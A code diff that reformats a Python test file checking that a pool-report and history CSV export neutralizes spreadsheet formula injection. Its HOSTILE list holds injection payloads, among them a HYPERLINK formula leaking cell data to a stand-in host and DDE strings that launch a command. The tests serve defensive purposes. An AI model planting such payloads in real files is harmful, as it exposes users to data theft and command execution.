@@ -17,8 +17,14 @@ from poolsync.render.pool import pool_report_csv
 from poolsync.spreadsheet import neutralize, restore
 from tests.support.locations import location
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B2,"x")', "+cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE[:4])
@@ -39,8 +45,10 @@ def test_numbers_and_plain_text_are_left_alone() -> None:
 
 
 def test_pool_csv_cells_cannot_run() -> None:
-    locs = [location(name, f"0000000{i}-0000-4000-8000-000000000000", f"oid-{i}")
-            for i, name in enumerate(HOSTILE)]
+    locs = [
+        location(name, f"0000000{i}-0000-4000-8000-000000000000", f"oid-{i}")
+        for i, name in enumerate(HOSTILE)
+    ]
     report = build_pool_report("lab.example.com", locs, {})
     rows = list(csv.DictReader(io.StringIO(pool_report_csv(report))))
     names = {r["server"] for r in rows if r["server"]}
@@ -51,8 +59,9 @@ def test_pool_csv_cells_cannot_run() -> None:
 
 def test_history_export_imports_back_unchanged() -> None:
     at = datetime(2026, 9, 1, tzinfo=UTC)
-    rows = [Snapshot(at, "lab.example.com", name, SeatClass.VM, 10, 5, None)
-            for name in HOSTILE[:4]]
+    rows = [
+        Snapshot(at, "lab.example.com", name, SeatClass.VM, 10, 5, None) for name in HOSTILE[:4]
+    ]
     text = to_csv(rows)
     assert "'=HYPERLINK" in text and "\n2026-09-01T00:00:00+00:00,lab.example.com,'+cmd" in text
     back = parse_history(text, path=Path("h.csv"))
